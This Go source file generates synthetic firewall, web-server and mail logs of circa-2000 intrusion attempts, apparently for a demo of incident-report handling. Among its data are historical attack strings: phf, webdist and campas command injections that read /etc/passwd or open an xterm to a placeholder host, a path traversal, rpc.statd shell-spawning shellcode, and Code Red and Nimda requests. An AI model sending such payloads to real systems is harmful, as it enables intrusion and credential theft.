package demo

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"time"
)

// probed is what a report's logs show being probed: what the activity report counts.
type probed struct {
	tcp, udp, icmp map[int]bool
	cgi            map[string]bool
}

func newProbed() *probed {
	return &probed{tcp: map[int]bool{}, udp: map[int]bool{}, icmp: map[int]bool{}, cgi: map[string]bool{}}
}

func (p *probed) sorted(m map[int]bool) []int {
	out := make([]int, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

// logWriter writes log lines of the kinds reporters pasted in 2000, in the reporter's zone, and
// records what the lines show being probed.
type logWriter struct {
	rng   *rand.Rand
	loc   *time.Location
	t     time.Time // clock of the next line
	host  string    // the logging host's short name
	lines []string
	seen  *probed
}

func (w *logWriter) advance(min, max time.Duration) {
	w.t = w.t.Add(min + time.Duration(w.rng.Int64N(int64(max-min)+1)))
}

func (w *logWriter) stamp() string { return w.t.In(w.loc).Format(time.Stamp) }

func (w *logWriter) text() []byte { return []byte(strings.Join(w.lines, "\n") + "\n") }

// The seed's probed ports (JPCERT-PR-2000-0003 section I), weighted roughly by how often scans
// of the time looked for them.
var seedTCPPorts = []struct{ port, weight int }{
	{21, 14}, {22, 8}, {23, 10}, {53, 9}, {109, 2}, {25, 5}, {110, 6}, {111, 14}, {143, 6},
	{514, 2}, {12345, 5}, {1080, 6}, {3128, 6}, {80, 8}, {8080, 5}, {1114, 2}, {513, 2}, {79, 3},
	{2425, 1}, {1243, 2}, {2140, 1}, {98, 2}, {31337, 3},
}

func (w *logWriter) tcpPort() int {
	total := 0
	for _, p := range seedTCPPorts {
		total += p.weight
	}
	n := w.rng.IntN(total)
	for _, p := range seedTCPPorts {
		if n < p.weight {
			return p.port
		}
		n -= p.weight
	}
	return 111
}

// packet is one packet a filter logged.
type packet struct {
	proto    string // tcp, udp, icmp
	src, dst string
	sport    int
	dport    int // or the ICMP type
}

// firewall writes p in one of the packet-filter formats of the time; inbound and refused.
func (w *logWriter) firewall(kind string, p packet) {
	switch p.proto {
	case "tcp":
		w.seen.tcp[p.dport] = true
	case "udp":
		w.seen.udp[p.dport] = true
	case "icmp":
		w.seen.icmp[p.dport] = true
	}
	id := 1000 + w.rng.IntN(60000)
	ttl := 40 + w.rng.IntN(80)
	switch kind {
	case "ipchains":
		proto := map[string]int{"tcp": 6, "udp": 17, "icmp": 1}[p.proto]
		flags := ""
		if p.proto == "tcp" {
			flags = " SYN"
		}
		sport := p.sport
		if p.proto == "icmp" {
			sport = p.dport
			p.dport = 0
		}
		w.lines = append(w.lines, fmt.Sprintf("%s %s kernel: Packet log: input DENY eth0 PROTO=%d %s:%d %s:%d L=60 S=0x00 I=%d F=0x4000 T=%d%s (#%d)",
			w.stamp(), w.host, proto, p.src, sport, p.dst, p.dport, id, ttl, flags, 3+w.rng.IntN(12)))
	case "cisco":
		seq := 100000 + w.rng.IntN(800000)
		if p.proto == "icmp" {
			w.lines = append(w.lines, fmt.Sprintf("%s %s %d: %dd%02dh: %%SEC-6-IPACCESSLOGDP: list 101 denied icmp %s -> %s (%d/0), 1 packet",
				w.stamp(), w.host, seq, 1+w.rng.IntN(30), w.rng.IntN(24), p.src, p.dst, p.dport))
		} else {
			w.lines = append(w.lines, fmt.Sprintf("%s %s %d: %dd%02dh: %%SEC-6-IPACCESSLOGP: list 101 denied %s %s(%d) -> %s(%d), 1 packet",
				w.stamp(), w.host, seq, 1+w.rng.IntN(30), w.rng.IntN(24), p.proto, p.src, p.sport, p.dst, p.dport))
		}
	case "pf":
		stamp := w.t.In(w.loc).Format("Jan _2 15:04:05.000000")
		switch p.proto {
		case "icmp":
			w.lines = append(w.lines, fmt.Sprintf("%s rule 3/0(match): block in on fxp0: %s > %s: icmp: echo request", stamp, p.src, p.dst))
		case "udp":
			w.lines = append(w.lines, fmt.Sprintf("%s rule 4/0(match): block in on fxp0: %s.%d > %s.%d: udp 50", stamp, p.src, p.sport, p.dst, p.dport))
		default:
			seq := w.rng.Uint32()
			w.lines = append(w.lines, fmt.Sprintf("%s rule 2/0(match): block in on fxp0: %s.%d > %s.%d: S %d:%d(0) win 16384", stamp, p.src, p.sport, p.dst, p.dport, seq, seq))
		}
	default: // iptables
		prefix := []string{"DROP ", "INBOUND: ", "", "Dropped: "}[w.rng.IntN(4)]
		head := fmt.Sprintf("%s %s kernel: %sIN=eth0 OUT= MAC=00:0c:29:3e:51:0a:00:50:56:c0:00:08:08:00 SRC=%s DST=%s LEN=%d TOS=0x00 PREC=0x00 TTL=%d ID=%d",
			w.stamp(), w.host, prefix, p.src, p.dst, 44+w.rng.IntN(20), ttl, id)
		switch p.proto {
		case "icmp":
			w.lines = append(w.lines, fmt.Sprintf("%s PROTO=ICMP TYPE=%d CODE=0 ID=%d SEQ=%d", head, p.dport, 256+w.rng.IntN(4000), w.rng.IntN(10)))
		case "udp":
			w.lines = append(w.lines, fmt.Sprintf("%s PROTO=UDP SPT=%d DPT=%d LEN=58", head, p.sport, p.dport))
		default:
			w.lines = append(w.lines, fmt.Sprintf("%s DF PROTO=TCP SPT=%d DPT=%d WINDOW=%d RES=0x00 SYN URGP=0", head, p.sport, p.dport, []int{512, 1024, 5840, 32120}[w.rng.IntN(4)]))
		}
	}
}

var firewallKinds = []string{"iptables", "iptables", "ipchains", "ipchains", "cisco", "pf"}

// probes writes a probe of a few ports from one source, or a scan of many.
func (w *logWriter) probes(src, dst string) {
	kind := firewallKinds[w.rng.IntN(len(firewallKinds))]
	switch r := w.rng.IntN(20); {
	case r < 3: // a port scan: 15 or more ports within the minute
		ports := map[int]bool{}
		for len(ports) < 15+w.rng.IntN(8) {
			ports[w.tcpPort()] = true
			if len(ports) > len(seedTCPPorts)-2 {
				break
			}
		}
		sport := 1024 + w.rng.IntN(60000)
		for _, p := range sortedSet(ports) {
			w.firewall(kind, packet{"tcp", src, dst, sport, p})
			w.advance(0, time.Second)
		}
	case r < 5: // RPC and NetBIOS over UDP
		port := []int{111, 137}[w.rng.IntN(2)]
		for i := 0; i < 1+w.rng.IntN(4); i++ {
			w.firewall(kind, packet{"udp", src, dst, 600 + w.rng.IntN(400), port})
			w.advance(time.Second, 40*time.Second)
		}
	case r < 7: // a ping sweep of a few hosts, then a port
		for i := 0; i < 2+w.rng.IntN(4); i++ {
			w.firewall(kind, packet{"icmp", src, neighbour(dst, i), 0, 8})
			w.advance(time.Second, 5*time.Second)
		}
		if w.rng.IntN(2) == 0 {
			w.firewall(kind, packet{"tcp", src, dst, 1024 + w.rng.IntN(60000), w.tcpPort()})
		}
	default: // a few ports, a few tries each
		for i := 0; i < 1+w.rng.IntN(4); i++ {
			port := w.tcpPort()
			for j := 0; j < 1+w.rng.IntN(3); j++ {
				w.firewall(kind, packet{"tcp", src, dst, 1024 + w.rng.IntN(60000), port})
				w.advance(2*time.Second, 90*time.Second)
			}
		}
	}
}

// cgiProbes are requests of the CGI programs of CA-96.06, CA-96.11, CA-97.07, CA-97.12 and
// CA-97.24 and the php.cgi overflow, as scanners of the time sent them.
var cgiProbes = []struct{ path, query string }{
	{"/cgi-bin/phf", "?Qalias=x%0a/bin/cat%20/etc/passwd"},
	{"/cgi-bin/phf", "?Jserver=x%0a/usr/X11R6/bin/xterm%20-display%20198.51.100.1:0"},
	{"/cgi-bin/test-cgi", "?*"},
	{"/cgi-bin/nph-test-cgi", "?*"},
	{"/cgi-bin/Count.cgi", "?dd=../../../../etc"},
	{"/cgi-bin/php.cgi", "?/etc/passwd"},
	{"/cgi-bin/webdist.cgi", "?distloc=;cat%20/etc/passwd"},
	{"/cgi-bin/campas", "?%0acat%0a/etc/passwd%0a"},
	{"/cgi-bin/perl.exe", "?-v"},
}

// cgi writes Apache access log lines of a CGI scan from src.
func (w *logWriter) cgi(src string) {
	n := 1 + w.rng.IntN(5)
	start := w.rng.IntN(len(cgiProbes))
	for i := 0; i < n; i++ {
		p := cgiProbes[(start+i)%len(cgiProbes)]
		w.seen.cgi[p.path] = true
		w.lines = append(w.lines, fmt.Sprintf(`%s - - [%s] "GET %s%s HTTP/1.0" 404 %d "-" "-"`,
			src, w.t.In(w.loc).Format("02/Jan/2006:15:04:05 -0700"), p.path, p.query, 270+w.rng.IntN(30)))
		w.advance(time.Second, 4*time.Second)
	}
}

func (w *logWriter) syslog(program string, pid int, msg string) {
	tag := program
	if pid > 0 {
		tag = fmt.Sprintf("%s[%d]", program, pid)
	}
	w.lines = append(w.lines, fmt.Sprintf("%s %s %s: %s", w.stamp(), w.host, tag, msg))
}

// relayAttempts writes an MTA refusing to relay for src.
func (w *logWriter) relayAttempts(src string) {
	postfix := w.rng.IntN(3) == 0
	for i := 0; i < 2+w.rng.IntN(6); i++ {
		rcpt := fmt.Sprintf("%s%d@example.%s", []string{"list", "user", "info", "sales"}[w.rng.IntN(4)], w.rng.IntN(900), []string{"com", "net", "org"}[w.rng.IntN(3)])
		if postfix {
			w.syslog("postfix/smtpd", 300+w.rng.IntN(30000), fmt.Sprintf("NOQUEUE: reject: RCPT from unknown[%s]: 554 5.7.1 <%s>: Relay access denied; from=<a%d@example.org> to=<%s> proto=SMTP helo=<%s>", src, rcpt, w.rng.IntN(99), rcpt, src))
		} else {
			pid := 1000 + w.rng.IntN(30000)
			w.syslog("sendmail", pid, fmt.Sprintf("%s: ruleset=check_rcpt, arg1=<%s>, relay=[%s], reject=550 5.7.1 <%s>... Relaying denied", queueID(w.rng, pid), rcpt, src, rcpt))
		}
		w.advance(5*time.Second, 3*time.Minute)
	}
}

// forgedSenderLog writes an MTA refusing mail whose sender is forged.
func (w *logWriter) forgedSenderLog(src, victimDomain string) {
	for i := 0; i < 1+w.rng.IntN(4); i++ {
		pid := 1000 + w.rng.IntN(30000)
		if w.rng.IntN(2) == 0 {
			w.syslog("sendmail", pid, fmt.Sprintf("%s: ruleset=check_rcpt, arg1=<postmaster@%s>, relay=mail.example.net [%s] (may be forged), reject=550 5.7.1 <postmaster@%s>... Relaying denied", queueID(w.rng, pid), victimDomain, src, victimDomain))
		} else {
			w.syslog("postfix/smtpd", pid, fmt.Sprintf("NOQUEUE: reject: RCPT from unknown[%s]: 450 4.1.8 <info@no-such-domain.example>: Sender address rejected: Domain not found; from=<info@no-such-domain.example> to=<staff@%s> proto=ESMTP helo=<%s>", src, victimDomain, src))
		}
		w.advance(10*time.Second, 5*time.Minute)
	}
}

func queueID(rng *rand.Rand, pid int) string {
	return fmt.Sprintf("%c%c%c%05d", 'A'+rng.IntN(26), 'A'+rng.IntN(26), 'A'+rng.IntN(26), pid%100000)
}

// statd writes the rpc.statd message of JPCERT-E-INF-98-0001, with its shellcode bytes as the
// syslog daemon wrote them.
func (w *logWriter) statd() {
	path := "/var/statmon/sm/" + strings.Repeat("../", 8+w.rng.IntN(30)) + "tmp/.nfs09"
	shell := "\x90\x90\x90\x90\xeb\x1f^\x89v\x08\x31\xc0\x88F\x07\x89F\x0c\xb0\x0b\x89\xf3\x8dN\x08\x8dV\x0c\xcd\x80XbinXsh tirdwr"
	w.syslog([]string{"statd", "rpc.statd"}[w.rng.IntN(2)], 100+w.rng.IntN(400), `attempt to create "`+path+shell+`"`)
}

// synFlood writes the kernel's SYN flood warnings.
func (w *logWriter) synFlood(port int) {
	for i := 0; i < 1+w.rng.IntN(5); i++ {
		w.syslog("kernel", 0, fmt.Sprintf("possible SYN flooding on port %d. Sending cookies.", port))
		w.advance(time.Minute, 4*time.Minute)
	}
}

// packetFlood writes a packet filter logging a flood: 60 to 90 packets within seconds.
func (w *logWriter) packetFlood(src, dst string, port int) {
	for i := 0; i < 60+w.rng.IntN(30); i++ {
		w.firewall("iptables", packet{"tcp", src, dst, 1024 + w.rng.IntN(60000), port})
		w.advance(0, 100*time.Millisecond)
	}
}

func (w *logWriter) codeRed(src string) {
	w.lines = append(w.lines, fmt.Sprintf(`%s - - [%s] "GET /default.ida?%s%%u9090%%u6858%%ucbd3%%u7801%%u9090%%u6858%%ucbd3%%u7801%%u9090%%u6858%%ucbd3%%u7801%%u9090%%u9090%%u8190%%u00c3%%u0003%%u8b00%%u531b%%u53ff%%u0078%%u0000%%u00=a HTTP/1.0" 404 %d "-" "-"`,
		src, w.t.In(w.loc).Format("02/Jan/2006:15:04:05 -0700"), strings.Repeat("N", 224), 270+w.rng.IntN(30)))
	w.advance(time.Minute, time.Hour)
}

func (w *logWriter) nimda(src string) {
	for _, path := range []string{"/scripts/root.exe?/c+dir", "/MSADC/root.exe?/c+dir", "/c/winnt/system32/cmd.exe?/c+dir", "/d/winnt/system32/cmd.exe?/c+dir"} {
		w.lines = append(w.lines, fmt.Sprintf(`%s - - [%s] "GET %s HTTP/1.0" 404 %d "-" "-"`,
			src, w.t.In(w.loc).Format("02/Jan/2006:15:04:05 -0700"), path, 280+w.rng.IntN(20)))
		w.advance(0, 2*time.Second)
	}
}

// slapper writes the Apache/mod_ssl worm's peer traffic on 2002/udp (JPCERT-AT-2002-0006).
func (w *logWriter) slapper(src, dst string) {
	for i := 0; i < 2+w.rng.IntN(4); i++ {
		w.firewall("iptables", packet{"udp", src, dst, 2002, 2002})
		w.advance(time.Second, time.Minute)
	}
}

func neighbour(addr string, i int) string {
	k := strings.LastIndexByte(addr, '.')
	var last int
	fmt.Sscanf(addr[k+1:], "%d", &last)
	return fmt.Sprintf("%s.%d", addr[:k], (last+i)%250+1)
}

func sortedSet(m map[int]bool) []int {
	out := make([]int, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}
